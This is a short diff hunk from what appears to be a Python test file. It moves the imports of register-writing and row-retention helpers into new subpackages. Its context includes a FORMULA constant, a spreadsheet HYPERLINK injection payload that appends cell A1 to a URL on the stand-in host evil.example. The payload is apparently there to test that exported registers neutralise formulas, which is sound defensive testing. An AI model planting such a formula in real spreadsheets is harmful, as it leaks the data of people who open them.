@@ -28,8 +28,8 @@ from models.tables import (
     Request,
     RequestState,
 )
-from tasks.retain_rows import forget_person
-from tasks.write_register import Format, register
+from tasks.figures.write_register import Format, register
+from tasks.keeping.retain_rows import forget_person
 from tests.support.case_rows import NOW, ON_FILE, add_case
 
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Camille")'
